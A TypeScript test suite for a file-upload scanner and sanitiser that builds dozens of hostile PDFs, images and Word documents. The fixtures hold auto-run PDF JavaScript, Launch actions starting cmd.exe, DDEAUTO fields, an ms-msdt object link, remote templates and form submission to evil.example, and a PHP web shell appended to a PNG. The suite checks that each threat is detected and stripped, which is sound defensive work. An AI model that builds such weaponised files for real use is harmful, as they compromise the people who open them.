import type { ActiveContent } from '@visafolio/contract/files/file.ts';
import { uploadTypes } from '@visafolio/contract/shared/limits.ts';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { readPdf } from '../../../../../test/harness/read-pdf.ts';
import { compoundFile } from '../../testing/compound-file.ts';
import { zip } from '../../testing/zip.ts';
import makePdf from '../look/make-pdf.ts';
import { heic, typedPdf } from '../testing/sample-pages.ts';
import makeSafeCopy from './copy/make-safe-copy.ts';
import findActiveContent from './find/find-active-content.ts';
import { hostileDocx, instruction, mark, paragraph } from './testing/hostile-docx.ts';
import { encrypted, hiddenByRevision, hostilePdf } from './testing/hostile-pdf.ts';

type Built = Buffer | Promise<Buffer>;
/** What it is, the file, and what is found. */
type Case = [string, () => Built, ActiveContent[]];

const js = '/S /JavaScript /JS (app.alert(1))';
const open = `/OpenAction << ${js} >>`;
const program = Buffer.concat([Buffer.from('MZ\x90\x00'), Buffer.alloc(200, 1)]);
const archive = () => zip({ 'run.js': Buffer.from('alert(1)') });
const page = Buffer.from('<html><script>alert(1)</script></html>');
const after = async (file: Built, tail: Buffer) => Buffer.concat([await file, tail]);
const before = async (head: Buffer, file: Built) => Buffer.concat([head, await file]);

const pdfs: Case[] = [
  ['an ordinary PDF', () => hostilePdf({}), []],
  ['an ordinary PDF of a program', () => typedPdf(2), []],
  ['an ordinary PDF with compressed objects', () => hostilePdf({ isCompressed: true }), []],
  [
    'a link to a page of the web',
    () => hostilePdf({ annotations: ['/Subtype /Link /A << /S /URI /URI (https://example.com) >>'] }),
    [],
  ],
  [
    'a link within the document',
    () => hostilePdf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' }),
    [],
  ],
  ['an empty tree of scripts', () => hostilePdf({ catalog: '/Names << /JavaScript << /Names [] >> >>' }), []],
  ['a script that runs when it is opened', () => hostilePdf({ catalog: open }), ['script']],
  [
    'a script as a hexadecimal string',
    () => hostilePdf({ catalog: '/OpenAction << /S /JavaScript /JS <6170702e616c657274> >>' }),
    ['script'],
  ],
  [
    'a script in a stream',
    () =>
      hostilePdf({
        catalog: '/OpenAction << /S /JavaScript /JS 5 0 R >>',
        objects: ['<< /Length 3 >>\nstream\nx=1\nendstream'],
      }),
    ['script'],
  ],
  [
    'a script whose type is written with escapes',
    () => hostilePdf({ catalog: '/OpenAction << /S /J#61v#61Script /#4a#53 (x) >>' }),
    ['script'],
  ],
  [
    'a script whose key is written with escapes',
    () => hostilePdf({ catalog: '/OpenAction << /#4a#53 (x) >>' }),
    ['script'],
  ],
  [
    'a script whose type is in another object',
    () => hostilePdf({ catalog: '/OpenAction << /S 5 0 R >>', objects: ['/JavaScript'] }),
    ['script'],
  ],
  [
    'a named script of the document',
    () => hostilePdf({ catalog: `/Names << /JavaScript << /Names [(a) << ${js} >>] >> >>` }),
    ['script'],
  ],
  ['a script when its page is opened', () => hostilePdf({ page: `/AA << /O << ${js} >> >>` }), ['script']],
  ['a script when it is closed', () => hostilePdf({ catalog: `/AA << /WC << ${js} >> >>` }), ['script']],
  ['a script of a link', () => hostilePdf({ annotations: [`/Subtype /Link /A << ${js} >>`] }), ['script']],
  [
    'a script of a field',
    () => hostilePdf({ annotations: [`/Subtype /Widget /FT /Tx /T (a) /AA << /K << ${js} >> >>`] }),
    ['script'],
  ],
  [
    'a script as the second action',
    () => hostilePdf({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << ${js} >> >>` }),
    ['script'],
  ],
  ['a script in compressed objects', () => hostilePdf({ catalog: open, isCompressed: true }), ['script']],
  [
    'a script in an encrypted file that opens without a password',
    () => encrypted(hostilePdf({ catalog: open })),
    ['script'],
  ],
  ['a script that a later revision hides', () => hiddenByRevision(hostilePdf({ catalog: open })), ['script']],
  ['a script that nothing refers to', () => hostilePdf({ objects: [`<< ${js} >>`] }), ['script']],
  [
    'a script behind a broken table',
    () =>
      Buffer.from(
        hostilePdf({ catalog: open })
          .toString('latin1')
          .replace(/startxref\n\d+/, 'startxref\n7'),
        'latin1',
      ),
    ['script'],
  ],
  [
    'an address that is a script',
    () => hostilePdf({ annotations: ['/Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >>'] }),
    ['script'],
  ],
  [
    'a program that is started',
    () => hostilePdf({ catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }),
    ['launch'],
  ],
  [
    'a program that is started on Windows',
    () => hostilePdf({ catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' }),
    ['launch'],
  ],
  [
    'a program that a link starts',
    () => hostilePdf({ annotations: ['/Subtype /Link /A << /S /Launch /F (a.bat) >>'], isCompressed: true }),
    ['launch'],
  ],
  [
    'an address of the disk',
    () =>
      hostilePdf({
        annotations: ['/Subtype /Link /A << /S /URI /URI (file:///c:/windows/system32/calc.exe) >>'],
      }),
    ['opens_file'],
  ],
  [
    'an address of a share',
    () => hostilePdf({ annotations: ['/Subtype /Link /A << /S /URI /URI (\\\\\\\\evil\\\\share) >>'] }),
    ['opens_file'],
  ],
  [
    'another file that is opened',
    () => hostilePdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >>' }),
    ['opens_file'],
  ],
  [
    'an embedded file that is opened',
    () => hostilePdf({ catalog: '/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>' }),
    ['opens_file'],
  ],
  [
    'a form that sends what is typed',
    () =>
      hostilePdf({
        annotations: ['/Subtype /Widget /FT /Btn /T (a) /A << /S /SubmitForm /F (https://evil.example) >>'],
      }),
    ['submits_form'],
  ],
  [
    'a form that loads data',
    () => hostilePdf({ catalog: '/OpenAction << /S /ImportData /F (a.fdf) >>' }),
    ['opens_file'],
  ],
  [
    'a named embedded file',
    () =>
      hostilePdf({
        catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>',
        objects: [
          '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
          '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
        ],
      }),
    ['embedded_file'],
  ],
  [
    'an attached file on a page',
    () => hostilePdf({ annotations: ['/Subtype /FileAttachment /FS << /F (a.exe) >>'] }),
    ['embedded_file'],
  ],
  [
    'an associated file',
    () =>
      hostilePdf({
        catalog: '/AF [5 0 R]',
        objects: [
          '<< /Type /Filespec /F (a) /EF << /F 6 0 R >> >>',
          '<< /Length 2 >>\nstream\nMZ\nendstream',
        ],
      }),
    ['embedded_file'],
  ],
  ['a portfolio', () => hostilePdf({ catalog: '/Collection << /View /D >>' }), ['embedded_file']],
  [
    'a dynamic form',
    () =>
      hostilePdf({
        catalog: '/AcroForm << /Fields [] /XFA [(template) 5 0 R] >>',
        objects: ['<< /Length 8 >>\nstream\n<xdp:a/>\nendstream'],
      }),
    ['xfa'],
  ],
  [
    'a dynamic form as one stream, compressed',
    () =>
      hostilePdf({
        catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>',
        objects: ['<< /Length 8 >>\nstream\n<xdp:a/>\nendstream'],
        isCompressed: true,
      }),
    ['xfa'],
  ],
  [
    'Flash',
    () =>
      hostilePdf({
        annotations: ['/Subtype /RichMedia /RichMediaContent << /Assets 5 0 R >>'],
        objects: ['<< /Names [] >>'],
      }),
    ['rich_media'],
  ],
  [
    'a 3D model',
    () =>
      hostilePdf({
        annotations: ['/Subtype /3D /3DD 5 0 R'],
        objects: ['<< /Type /3D /Subtype /U3D /Length 1 >>\nstream\na\nendstream'],
      }),
    ['rich_media'],
  ],
  [
    'a video with a script',
    () => hostilePdf({ annotations: ['/Subtype /Screen /A << /S /Rendition /JS (x) >>'] }),
    ['script', 'rich_media'],
  ],
  [
    'a sound',
    () =>
      hostilePdf({
        catalog: '/OpenAction << /S /Sound /Sound 5 0 R >>',
        objects: ['<< /Length 1 >>\nstream\na\nendstream'],
      }),
    ['rich_media'],
  ],
  ['text after its end', () => after(hostilePdf({}), Buffer.from('and something more')), ['tail']],
  ['line ends and zeros after its end', () => after(hostilePdf({}), Buffer.from('\r\n\0\0\n')), []],
  ['a ZIP after its end', () => after(hostilePdf({}), archive()), ['tail', 'second_type']],
  ['a program after its end', () => after(hostilePdf({}), program), ['tail', 'second_type']],
  ['a web page after its end', () => after(hostilePdf({}), page), ['tail', 'second_type']],
  ['a web page before its beginning', () => before(page, hostilePdf({})), ['tail', 'second_type']],
  ['a program before its beginning', () => before(program, hostilePdf({})), ['tail', 'second_type']],
  ['nothing that can be read', () => Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog'), ['not_examined']],
];

const picture = () => sharp({ create: { width: 80, height: 60, channels: 3, background: '#9ab' } });
const video = (inside: Buffer) => Buffer.concat([Buffer.from('\0\0\0\x10ftypmp42\0\0\0\0'), inside]);
const pictures: [keyof typeof uploadTypes, ...Case][] = [
  ['jpg', 'an ordinary photo', () => picture().jpeg().toBuffer(), []],
  ['jpg', 'an ordinary progressive photo', () => picture().jpeg({ progressive: true }).toBuffer(), []],
  [
    'jpg',
    'a photo of a phone with a second picture',
    async () => after(picture().jpeg().toBuffer(), await picture().jpeg().toBuffer()),
    [],
  ],
  [
    'jpg',
    'a photo of a phone with a short video',
    () => after(picture().jpeg().toBuffer(), video(Buffer.alloc(50, 3))),
    [],
  ],
  [
    'jpg',
    'such a photo with a ZIP in the video',
    () => after(picture().jpeg().toBuffer(), video(archive())),
    ['tail', 'second_type'],
  ],
  [
    'jpg',
    'a photo that is a web page too',
    () => after(picture().jpeg().toBuffer(), page),
    ['tail', 'second_type'],
  ],
  [
    'jpg',
    'a photo that is a ZIP too',
    () => after(picture().jpeg().toBuffer(), archive()),
    ['tail', 'second_type'],
  ],
  [
    'jpg',
    'a photo with a program behind it',
    () => after(picture().jpeg().toBuffer(), program),
    ['tail', 'second_type'],
  ],
  [
    'jpg',
    'a photo with something unknown behind it',
    () => after(picture().jpeg().toBuffer(), Buffer.from('hidden words')),
    ['tail'],
  ],
  ['png', 'an ordinary PNG', () => picture().png().toBuffer(), []],
  [
    'png',
    'a PNG with a program of a web server',
    () => after(picture().png().toBuffer(), Buffer.from('<?php system($_GET[0]);')),
    ['tail', 'second_type'],
  ],
  [
    'png',
    'a PNG that is a ZIP too',
    () => after(picture().png().toBuffer(), archive()),
    ['tail', 'second_type'],
  ],
  ['webp', 'an ordinary WebP', () => picture().webp().toBuffer(), []],
  [
    'webp',
    'a WebP with a web page behind it',
    () => after(picture().webp().toBuffer(), page),
    ['tail', 'second_type'],
  ],
  ['heic', 'an ordinary HEIC', () => heic(), []],
  ['heic', 'a HEIC with a program behind it', () => after(heic(), program), ['tail', 'second_type']],
  ['tiff', 'an ordinary TIFF', () => picture().tiff().toBuffer(), []],
  ['tiff', 'a TIFF that is a ZIP too', () => after(picture().tiff().toBuffer(), archive()), ['second_type']],
];

const ole = (name: string, content: Buffer) =>
  compoundFile(name, Buffer.concat([content, Buffer.alloc(5_000)]));
const field = (...pieces: string[]) => paragraph(mark('begin') + pieces.join('') + mark('end'));
const documents: Case[] = [
  ['an ordinary letter', () => hostileDocx({}), []],
  [
    'a link to a page of the web',
    () => hostileDocx({ links: [['hyperlink', 'https://example.com', 'External']] }),
    [],
  ],
  ['an ordinary field', () => hostileDocx({ body: field(instruction(' PAGE ')) }), []],
  [
    'macros',
    () => hostileDocx({ parts: { 'word/vbaProject.bin': ole('_VBA_PROJECT', Buffer.from('x')) } }),
    ['macros'],
  ],
  [
    'macros under another name',
    () => hostileDocx({ parts: { 'word/media/image1.png': ole('_VBA_PROJECT', Buffer.from('x')) } }),
    ['macros'],
  ],
  [
    'a renamed document with macros',
    () =>
      hostileDocx({
        types:
          '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
      }),
    ['macros'],
  ],
  [
    'a relationship to macros',
    () => hostileDocx({ links: [['vbaProject', 'a.bin', 'Internal']] }),
    ['macros'],
  ],
  [
    'a button that runs a macro',
    () => hostileDocx({ body: field(instruction(' MACROBUTTON Run here ')) }),
    ['macros'],
  ],
  [
    'a template of the web',
    () => hostileDocx({ settingsLinks: [['attachedTemplate', 'https://evil.example/a.dotm', 'External']] }),
    ['remote_template'],
  ],
  [
    'a template of a share',
    () => hostileDocx({ settingsLinks: [['attachedTemplate', '\\\\evil\\a.dotm', 'External']] }),
    ['opens_file', 'remote_template'],
  ],
  [
    'an object of another program',
    () =>
      hostileDocx({
        links: [['oleObject', 'embeddings/a.bin', 'Internal']],
        parts: { 'word/embeddings/a.bin': ole('CONTENTS', Buffer.from('x')) },
      }),
    ['ole_object'],
  ],
  [
    'a packed program',
    () =>
      hostileDocx({
        parts: { 'word/embeddings/a.bin': ole('\u0001Ole10Native', Buffer.from('\0\0a.exe\0c:\\a.exe\0MZ')) },
      }),
    ['ole_object', 'embedded_program'],
  ],
  [
    'a program as a part',
    () => hostileDocx({ parts: { 'word/media/a.png': program } }),
    ['embedded_program'],
  ],
  [
    'an object that is loaded from the web',
    () => hostileDocx({ links: [['oleObject', 'https://evil.example/a.html!', 'External']] }),
    ['external_content'],
  ],
  [
    'an object that starts a tool of Windows',
    () => hostileDocx({ links: [['oleObject', 'ms-msdt:/id%20PCWDiagnostic', 'External']] }),
    ['opens_file', 'external_content'],
  ],
  [
    'an embedded spreadsheet',
    () => hostileDocx({ links: [['package', 'embeddings/a.xlsx', 'Internal']] }),
    ['embedded_file'],
  ],
  [
    'another document inside',
    () => hostileDocx({ links: [['aFChunk', 'a.html', 'Internal']] }),
    ['embedded_file'],
  ],
  [
    'another document of the web',
    () => hostileDocx({ links: [['aFChunk', 'https://evil.example', 'External']] }),
    ['external_content'],
  ],
  [
    'an ActiveX control',
    () => hostileDocx({ links: [['control', 'activeX/a.xml', 'Internal']] }),
    ['active_x'],
  ],
  [
    'a picture that is loaded from the web',
    () => hostileDocx({ links: [['image', 'https://evil.example/seen.png', 'External']] }),
    ['external_content'],
  ],
  [
    'a picture that is loaded from a share',
    () => hostileDocx({ links: [['image', 'file://evil/a.png', 'External']] }),
    ['opens_file', 'external_content'],
  ],
  [
    'a part of the document on the web',
    () => hostileDocx({ links: [['subDocument', 'https://evil.example/a.docx', 'External']] }),
    ['external_content'],
  ],
  [
    'an unknown relationship to the web',
    () => hostileDocx({ links: [['somethingNew', 'https://evil.example', 'External']] }),
    ['external_content'],
  ],
  [
    'a link to the disk',
    () => hostileDocx({ links: [['hyperlink', 'file:///c:/a.lnk', 'External']] }),
    ['opens_file'],
  ],
  [
    'a link that is a search on a share',
    () => hostileDocx({ links: [['hyperlink', 'search-ms:query=a&amp;crumb=location:evil', 'External']] }),
    ['opens_file'],
  ],
  [
    'a call of another program',
    () => hostileDocx({ body: field(instruction(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" ')) }),
    ['dde'],
  ],
  [
    'such a call in pieces',
    () => hostileDocx({ body: field(instruction('D'), instruction('DE'), instruction('AUTO cmd')) }),
    ['dde'],
  ],
  [
    'such a call made by another field',
    () =>
      hostileDocx({
        body: field(
          field(instruction(' QUOTE 68 68 69 65 '), mark('separate')).replace(/<\/?w:p>/g, ''),
          instruction(' cmd'),
        ),
      }),
    ['dde'],
  ],
  [
    'such a call as a simple field',
    () => hostileDocx({ body: '<w:fldSimple w:instr="DDE cmd calc"/>' }),
    ['dde'],
  ],
  [
    'such a call in a header',
    () =>
      hostileDocx({
        parts: {
          'word/header1.xml': `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${field(instruction('DDEAUTO cmd'))}</w:hdr>`,
        },
      }),
    ['dde'],
  ],
  [
    'such a call in a field without an end',
    () => hostileDocx({ body: paragraph(mark('begin') + instruction('DDEAUTO cmd')) }),
    ['dde'],
  ],
  [
    'a picture that a field loads',
    () => hostileDocx({ body: field(instruction(' INCLUDEPICTURE "https://evil.example/seen.png" \\d ')) }),
    ['external_content'],
  ],
  [
    'relationships in UTF-16',
    () =>
      hostileDocx({
        parts: {
          'word/_rels/document.xml.rels': Buffer.from(
            '\ufeff<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="x/attachedTemplate" Target="https://evil.example" TargetMode="External"/></Relationships>',
            'utf16le',
          ),
        },
      }),
    ['remote_template'],
  ],
  [
    'entities that hide words',
    () => hostileDocx({ parts: { 'word/document.xml': '<!DOCTYPE a [<!ENTITY d "DDEAUTO">]><a>&d;</a>' } }),
    ['not_examined'],
  ],
  [
    'XML that is broken',
    () => hostileDocx({ parts: { 'word/document.xml': '<w:document' } }),
    ['not_examined'],
  ],
  ['a program before its beginning', () => before(program, hostileDocx({})), ['second_type', 'not_examined']],
  ['nothing that can be read', () => Buffer.from('PK\x03\x04 and no more'), ['not_examined']],
];

const oldDocuments: Case[] = [
  ['an ordinary old letter', () => ole('WordDocument', Buffer.from('x')), []],
  ['an old letter with macros', () => ole('_VBA_PROJECT', Buffer.from('x')), ['macros']],
  [
    'an old letter with an object of another program',
    () => ole('ObjectPool', Buffer.from('x')),
    ['ole_object'],
  ],
  ['an old letter that cannot be read', () => Buffer.alloc(600, 7), ['not_examined']],
];

describe('a PDF with', () => {
  test.each(pdfs)(
    '%s is named; its safe copy and PDFs with its pages do nothing',
    async (_, build, expected) => {
      const bytes = await build();
      const type = uploadTypes.pdf;
      expect(await findActiveContent({ type, bytes })).toEqual(expected);
      if (expected.includes('not_examined')) return;
      const merged = await makePdf({ parts: [{ type, bytes, arrangement: null }], title: 'a' });
      expect(await findActiveContent({ type, bytes: merged.pdf })).toEqual([]);
      const copy = await makeSafeCopy({ type, bytes });
      expect(await findActiveContent({ type, bytes: copy?.bytes ?? Buffer.alloc(0) })).toEqual([]);
      const read = await readPdf(Buffer.from(copy?.bytes ?? []));
      expect(read.length).toBeGreaterThan(0);
    },
  );
});

describe('a picture', () => {
  test.each(pictures)(
    '(%s) %s is named, and its safe copy is a picture alone',
    async (ending, _, build, expected) => {
      const bytes = await build();
      const type = uploadTypes[ending];
      expect(await findActiveContent({ type, bytes })).toEqual(expected);
      const copy = await makeSafeCopy({ type, bytes });
      const copyType = ending === 'tiff' ? uploadTypes.pdf : uploadTypes.jpg;
      expect(copy?.type).toBe(copyType);
      expect(await findActiveContent({ type: copyType, bytes: copy?.bytes ?? Buffer.alloc(0) })).toEqual([]);
    },
  );
});

describe('a Word document with', () => {
  test.each(documents)('%s is named, and has no safe copy', async (_, build, expected) => {
    const bytes = await build();
    expect(await findActiveContent({ type: uploadTypes.docx, bytes })).toEqual(expected);
    expect(await makeSafeCopy({ type: uploadTypes.docx, bytes })).toBeNull();
  });
  test.each(oldDocuments)('%s is named', async (_, build, expected) => {
    expect(await findActiveContent({ type: uploadTypes.doc, bytes: await build() })).toEqual(expected);
  });
});

test('there are at least sixty hostile files', () => {
  const all = [...pdfs, ...documents, ...oldDocuments].map(([, , found]) => found);
  const hostile = [...all, ...pictures.map(([, , , found]) => found)].filter((found) => found.length > 0);
  expect(hostile.length).toBeGreaterThanOrEqual(60);
});
